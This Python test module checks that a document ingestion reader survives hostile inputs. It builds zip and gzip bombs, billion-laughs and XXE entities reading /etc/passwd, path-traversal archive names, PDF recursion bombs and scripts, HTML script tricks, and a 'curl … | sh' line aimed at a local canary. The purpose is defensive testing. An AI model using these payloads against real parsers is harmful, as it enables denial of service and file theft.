"""Files that nobody sends in good faith, each made in code, with what reading them must come to.

A case expects error codes, or READ where the file is harmless once its tricks are ignored.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from ingest.reading import ErrorCode
from tests.reading import builders as make
from tests.reading.builders import ARABIC, article, document, html_page, paragraph

READ = "read"
# The canary: a server on this machine that must never be asked. Replaced by its real port before reading.
CANARY = "http://127.0.0.1:65501/"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BILLION = f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]>'


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Callable[[], bytes]
    expected: tuple[str, ...]
    # Words that must not be in the text, whatever else is.
    never: tuple[str, ...] = ()


def _declared(doctype: str, words: str) -> bytes:
    """A docx whose main part begins with a document type."""
    xml = document(paragraph(words)).replace("?>", f"?>{doctype}", 1)
    return make.zipped({"[Content_Types].xml": "wordprocessingml.document.main", "word/document.xml": xml})


def _utf16_declared() -> bytes:
    xml = document(paragraph("&l9;")).replace("UTF-8", "UTF-16").replace("?>", f"?>{_BILLION}", 1)
    parts: dict[str, str | bytes] = {"[Content_Types].xml": "wordprocessingml.document.main"}
    return make.zipped(parts | {"word/document.xml": xml.encode("utf-16")})


def _lying_sizes() -> bytes:
    """30 MB in a part whose directory entry says 10 bytes."""
    data = bytearray(make.docx(paragraph("x") + " " * 30_000_000))
    at = data.rindex(b"word/document.xml") - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def _zip_flag_encrypted() -> bytes:
    data = bytearray(make.docx(paragraph(ARABIC)))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _twice() -> bytes:
    parts = {
        "[Content_Types].xml": "wordprocessingml.document.main",
        "word/document.xml": document(paragraph(ARABIC)),
    }
    data = make.zipped(parts | {"word/documen2.xml": document(paragraph("second"))})
    return data.replace(b"word/documen2.xml", b"word/document.xml")


def _external_template() -> bytes:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="a" Type="x/attachedTemplate" Target="{CANARY}t.dotm" TargetMode="External"/>'
        f'<Relationship Id="b" Type="x/header" Target="{CANARY}header1.xml"/>'
        '<Relationship Id="c" Type="x/header" Target="../../../../etc/passwd"/></Relationships>'
    )
    return make.docx(paragraph(ARABIC), {"word/_rels/document.xml.rels": rels})


def _path_names() -> bytes:
    names = (
        "../../evil.txt",
        "/etc/cron.d/evil",
        "..\\..\\evil.bat",
        "word/\u202elmx.xml",
        "con",
        "a" * 60_000,
    )
    return make.docx(paragraph(ARABIC), dict.fromkeys(names, "<evil/>"))


def _polyglot_docx_pdf() -> bytes:
    """A zip that also begins like a PDF: zip readers look at the end, PDF readers at the beginning."""
    return b"%PDF-1.4\n" + make.docx(paragraph(ARABIC))


def _polyglot_pdf_html() -> bytes:
    return b"<!doctype html><!-- %PDF-1.4 -->" + html_page(article()).encode()


def _polyglot_exe_zip() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 200 + make.docx(paragraph(ARABIC))


def _pages(kids: bytes, others: list[bytes], count: bytes = b"1") -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    return make.assemble(
        [catalog, b"<< /Type /Pages /Kids [" + kids + b"] /Count " + count + b" >>", *others]
    )


def _one_page(content: bytes, resources: bytes, others: list[bytes], more: bytes = b"") -> bytes:
    """Page 3, contents 4 (as given, with its dictionary), then the others from 5 on."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << "
        + resources
        + b" >> "
        + more
        + b" >>"
    )
    return _pages(b"3 0 R", [page, content, *others])


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + more + b" >>\nstream\n" + data + b"\nendstream"


_FONT = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
_WORDS = _stream(
    make.page_content(["The Minister of Industry received the ambassador", "and the two agreed to meet."])
)


def _flate_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 10_000_000) for _ in range(60)) + packer.flush()
    return _one_page(_stream(packed, b"/Filter /FlateDecode"), _FONT, [])


def _nested_filters() -> bytes:
    packed = zlib.compress(zlib.compress(zlib.compress(b" " * 200_000_000, 9), 9), 9)
    return _one_page(_stream(packed, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"), _FONT, [])


def _self_drawing_form() -> bytes:
    form = _stream(
        b"/X Do /X Do",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
    )
    return _one_page(_stream(b"/X Do"), b"/XObject << /X 5 0 R >>", [form])


def _doubling_forms() -> bytes:
    """40 forms, each drawing the next one twice: 2 to the 40th glyphs."""
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << "
    forms = [
        _stream(b"/X Do /X Do", head + b"/XObject << /X %d 0 R >> >>" % (number + 6)) for number in range(40)
    ]
    last = _stream(b"BT /F1 9 Tf (a) Tj ET", head + _FONT + b" >>")
    return _one_page(_stream(b"/X Do"), b"/XObject << /X 5 0 R >>", [*forms, last])


def _cross_reference_loop() -> bytes:
    data = _one_page(_WORDS, _FONT, [])
    start = data.rindex(b"xref\n0") if b"\nxref" in data else 0
    return data.replace(b"trailer\n<< ", b"trailer\n<< /Prev %d " % start)


def _unicode_map_bomb() -> bytes:
    ranges = b"100 beginbfrange\n" + b"<0000> <FFFF> <0041>\n" * 100 + b"endbfrange\n"
    cmap = _stream(
        b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n" + ranges * 200 + b"endcmap"
    )
    font = (
        b"/Font << /F1 << /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 5 0 R "
        b"/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A >>] >> >>"
    )
    return _one_page(_WORDS, font, [cmap])


def _active_pdf() -> bytes:
    actions = (
        b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> /Annots [<< /Type /Annot /Subtype /Link "
        b"/Rect [0 0 9 9] /A << /S /Launch /F (/bin/true) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A "
        b"<< /S /URI /URI (" + CANARY.encode() + b") >> >>]"
    )
    return _one_page(_WORDS, _FONT, [], actions)


def _deep_html() -> bytes:
    return html_page("<div>" * 100_000 + ARABIC).encode()


def _scripted_html() -> bytes:
    tricks = (
        f"<script src='{CANARY}a.js'></script><script>document.write('SECRET1')</script>"
        f"<iframe src='{CANARY}frame' srcdoc='<p>SECRET2</p>'>SECRET3</iframe><img src='{CANARY}i.png' onerror='x()'>"
        f"<object data='{CANARY}o'>SECRET4</object><svg onload='x()'><text>SECRET5</text></svg>"
        f"<style>@import '{CANARY}s.css'; p::after {{ content: 'SECRET6' }}</style><noscript>SECRET7</noscript>"
    )
    head = f"<base href='{CANARY}'><meta http-equiv='refresh' content='0;url={CANARY}'><link rel=stylesheet href=x.css>"
    return html_page(article().replace("<p>", tricks + "<p>", 1), head).encode()


def _table_html() -> bytes:
    rows = "".join(f"<tr><td>بند {n}</td><td>قيمة</td></tr>" for n in range(20_000))
    return html_page(f"<article><h1>جدول</h1><p>{ARABIC}</p><table>{rows}</table></article>").encode()


def _entity_html() -> bytes:
    return (
        _BILLION.replace("DOCTYPE d", "DOCTYPE html") + f"<html><body>{article()}<p>&l9;</p></body></html>"
    ).encode()


def _deep_json() -> bytes:
    nested = "[" * 100_000 + "]" * 100_000
    head = (
        f"<script type='application/ld+json'>{nested}</script><script type='application/ld+json'>{{'</script>"
    )
    return html_page(article(), head).encode()


def _wide_json() -> bytes:
    nodes = ",".join('{"@type":"NewsArticle","headline":["a"]}' for _ in range(7_000))
    return html_page(article(), f"<script type='application/ld+json'>[{nodes}]</script>").encode()


def _huge_docx_table() -> bytes:
    row = "<w:tr>" + f"<w:tc>{paragraph('خلية')}</w:tc>" * 10 + "</w:tr>"
    return make.docx(f"<w:tbl>{row * 8_000}</w:tbl>")


def _deep_docx(depth: int) -> bytes:
    opening = "<w:tbl><w:tr><w:tc>" * depth
    return make.docx(opening + paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth)


def _gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(b"\x00" * 30_000_000) + packer.flush()


E = ErrorCode
CASES: tuple[Case, ...] = (
    Case("docx_zip_bomb", "a.docx", lambda: make.docx(paragraph("x") + " " * 30_000_000), (E.ZIP_BOMB,)),
    Case("docx_that_lies_about_its_sizes", "a.docx", _lying_sizes, (E.ZIP_BOMB, E.BROKEN)),
    Case(
        "docx_with_too_many_parts",
        "a.docx",
        lambda: make.docx(paragraph("x"), {f"word/p{n}.bin": b"" for n in range(3_000)}),
        (E.ZIP_BOMB,),
    ),
    Case(
        "zip_in_zip",
        "a.docx",
        lambda: make.zipped({"inner.zip": make.zipped({"x": b"\x00" * 9_000_000})}),
        (E.WRONG_TYPE,),
    ),
    Case("docx_billion_laughs", "a.docx", lambda: _declared(_BILLION, "&l9;"), (E.UNSAFE,), ("haha",)),
    Case("docx_billion_laughs_utf16", "a.docx", _utf16_declared, (E.UNSAFE, E.BROKEN), ("haha",)),
    Case(
        "docx_billion_laughs_in_header",
        "a.docx",
        lambda: make.docx(paragraph(ARABIC), {"word/header1.xml": _BILLION + make.part("hdr", "&l9;")}),
        (E.UNSAFE,),
    ),
    Case(
        "docx_entity_from_a_file",
        "a.docx",
        lambda: _declared('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        (E.UNSAFE,),
        ("root:",),
    ),
    Case(
        "docx_entity_from_the_network",
        "a.docx",
        lambda: _declared(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{CANARY}x">]>', "&x;"),
        (E.UNSAFE,),
    ),
    Case(
        "docx_external_dtd",
        "a.docx",
        lambda: _declared(f'<!DOCTYPE d SYSTEM "{CANARY}d.dtd">', "x"),
        (E.UNSAFE,),
    ),
    Case(
        "docx_xinclude",
        "a.docx",
        lambda: make.docx(
            paragraph(ARABIC)
            + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
        (READ,),
        ("root:",),
    ),
    Case("docx_outside_template", "a.docx", _external_template, (READ,), ("root:",)),
    Case("docx_path_names", "a.docx", _path_names, (READ,), ("evil",)),
    Case("docx_encrypted_parts", "a.docx", _zip_flag_encrypted, (E.PASSWORD_PROTECTED, E.BROKEN)),
    Case("docx_main_part_twice", "a.docx", _twice, (READ, E.BROKEN)),
    Case("docx_encrypted_package", "a.docx", lambda: make.ole("EncryptedPackage"), (E.PASSWORD_PROTECTED,)),
    Case("docx_cut_off", "a.docx", lambda: make.docx(paragraph(ARABIC) * 500)[:900], (E.BROKEN,)),
    Case("docx_deep_tables", "a.docx", lambda: _deep_docx(60), (READ, E.BROKEN, E.UNSAFE, E.NO_TEXT)),
    Case("docx_very_deep_tables", "a.docx", lambda: _deep_docx(2_000), (E.BROKEN, E.UNSAFE)),
    Case("docx_huge_table", "a.docx", _huge_docx_table, (READ, E.TOO_LONG)),
    Case(
        "docx_huge_attribute",
        "a.docx",
        lambda: make.docx(f'<w:p w:a="{"x" * 12_000_000}"/>'),
        (E.BROKEN, E.ZIP_BOMB),
    ),
    Case("docx_polyglot_pdf", "a.docx", _polyglot_docx_pdf, (READ, E.BROKEN)),
    Case("docx_polyglot_exe", "a.docx", _polyglot_exe_zip, (E.WRONG_TYPE,)),
    Case("pdf_page_tree_loop", "a.pdf", lambda: _pages(b"2 0 R", []), (E.BROKEN, E.NO_TEXT, E.TIMEOUT)),
    Case(
        "pdf_page_tree_says_a_billion",
        "a.pdf",
        lambda: _pages(b"3 0 R", [b"<< /Type /Page /Parent 2 0 R >>"], b"1000000000"),
        (E.BROKEN, E.NO_TEXT, E.TOO_MANY_PAGES),
    ),
    Case(
        "pdf_page_many_times",
        "a.pdf",
        lambda: _pages(b"3 0 R " * 100_000, [b"<< /Type /Page /Parent 2 0 R >>"], b"100000"),
        (E.BROKEN, E.NO_TEXT, E.TOO_MANY_PAGES),
    ),
    Case("pdf_flate_bomb", "a.pdf", _flate_bomb, (E.MEMORY, E.NO_TEXT, E.TIMEOUT, E.BROKEN)),
    Case("pdf_nested_filters", "a.pdf", _nested_filters, (E.MEMORY, E.NO_TEXT, E.TIMEOUT, E.BROKEN)),
    Case("pdf_form_draws_itself", "a.pdf", _self_drawing_form, (E.NO_TEXT, E.BROKEN, E.TIMEOUT)),
    Case(
        "pdf_doubling_forms", "a.pdf", _doubling_forms, (E.NO_TEXT, E.BROKEN, E.TIMEOUT, E.MEMORY, E.TOO_LONG)
    ),
    Case("pdf_cross_reference_loop", "a.pdf", _cross_reference_loop, (READ, E.BROKEN)),
    Case(
        "pdf_length_refers_to_itself",
        "a.pdf",
        lambda: _one_page(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream", _FONT, []),
        (E.NO_TEXT, E.BROKEN),
    ),
    Case(
        "pdf_deep_arrays",
        "a.pdf",
        lambda: _one_page(_WORDS, _FONT, [b"[" * 200_000 + b"]" * 200_000], b"/X 5 0 R"),
        (READ, E.BROKEN, E.NO_TEXT),
    ),
    Case(
        "pdf_deep_array_in_page",
        "a.pdf",
        lambda: _one_page(_WORDS, _FONT, [], b"/X " + b"[" * 200_000),
        (READ, E.BROKEN, E.NO_TEXT),
    ),
    Case(
        "pdf_300000_objects",
        "a.pdf",
        lambda: _one_page(_WORDS, _FONT, [b"null"] * 300_000),
        (READ, E.TIMEOUT, E.MEMORY),
    ),
    Case(
        "pdf_unicode_map_bomb",
        "a.pdf",
        _unicode_map_bomb,
        (E.NO_TEXT, E.TIMEOUT, E.MEMORY, E.NOT_ARABIC_OR_ENGLISH),
    ),
    Case("pdf_actions_and_scripts", "a.pdf", _active_pdf, (READ,), ("app.alert", "/bin/true")),
    Case(
        "pdf_encrypted",
        "a.pdf",
        lambda: make.pdf([make.page_content(["x"])], user_password=b"p"),
        (E.PASSWORD_PROTECTED,),
    ),
    Case(
        "pdf_cut_off",
        "a.pdf",
        lambda: make.pdf([make.page_content(["words"] * 50)] * 20)[:2_500],
        (READ, E.BROKEN),
    ),
    Case("pdf_head_only", "a.pdf", lambda: b"%PDF-1.7\n" + b"\x00" * 100_000, (E.BROKEN,)),
    Case("html_scripts_and_frames", "a.html", _scripted_html, (READ,), ("SECRET", "@import", "onerror")),
    Case("html_deep", "a.html", _deep_html, (READ, E.UNSAFE, E.BROKEN)),
    Case(
        "html_unclosed",
        "a.html",
        lambda: html_page(ARABIC + "<b><i>" * 200_000).encode(),
        (READ, E.UNSAFE, E.BROKEN),
    ),
    Case("html_huge_table", "a.html", _table_html, (READ, E.TIMEOUT)),
    Case("html_billion_laughs", "a.html", _entity_html, (READ,), ("haha",)),
    Case("html_deep_json", "a.html", _deep_json, (READ,)),
    Case("html_wide_json", "a.html", _wide_json, (READ,)),
    Case(
        "html_huge_attribute",
        "a.html",
        lambda: html_page(f"<p title='{'x' * 15_000_000}'></p>{article()}").encode(),
        (READ, E.NO_TEXT, E.BROKEN, E.MEMORY, E.TIMEOUT),
    ),
    Case(
        "html_nul_in_tags", "a.html", lambda: html_page(article().replace("<p>", "<p\x00>")).encode(), (READ,)
    ),
    Case("html_named_pdf", "a.pdf", _polyglot_pdf_html, (READ,)),
    Case(
        "svg_with_script",
        "a.svg",
        lambda: b"<svg xmlns='x' onload='x()'><script>1</script></svg>",
        (E.UNSUPPORTED,),
    ),
    Case(
        "xml_entities",
        "a.txt",
        lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        (E.WRONG_TYPE,),
        ("root:",),
    ),
    Case("text_utf16_without_mark", "a.txt", lambda: ARABIC.encode("utf-16-be"), (READ,)),
    Case(
        "text_bidi_overrides",
        "a\u202etxt.exe",
        lambda: f"\u202e{ARABIC}\u202c\u2066x\u2069".encode(),
        (READ,),
        ("\u202e",),
    ),
    Case("text_one_long_line", "a.txt", lambda: "كلمة".encode() * 2_000_000, (E.TOO_LONG,)),
    Case("text_only_line_ends", "a.txt", lambda: b"\n\r" * 5_000_000, (E.EMPTY,)),
    Case("text_marks_upon_marks", "a.txt", lambda: (ARABIC + "ا" + "\u064b" * 500_000).encode(), (READ,)),
    Case("text_broken_surrogates", "a.txt", lambda: b"\xff\xfe" + b"\x00\xdc" * 5_000, (E.BINARY,)),
    Case("text_mostly_nul", "a.txt", lambda: b"\x00" * 1_000_000 + b"words", (E.BINARY,)),
    Case("picture_of_100_megapixels", "a.png", lambda: make.png(10_000, 10_000), (E.UNSUPPORTED,)),
    Case("gzip_bomb", "a.txt", _gzip_bomb, (E.WRONG_TYPE,)),
    Case("program_named_docx", "a.docx", lambda: b"MZ\x90\x00\x03" + b"\x00" * 500, (E.WRONG_TYPE,)),
    Case(
        "script_named_txt",
        "a.txt",
        lambda: b"#!/bin/sh\ncurl " + CANARY.encode() + b" | sh\n",
        (E.WRONG_TYPE,),
    ),
    Case(
        "stored_zip_of_words",
        "a.txt",
        lambda: make.zipped({"a": "words"}, zipfile.ZIP_STORED),
        (E.WRONG_TYPE,),
    ),
)
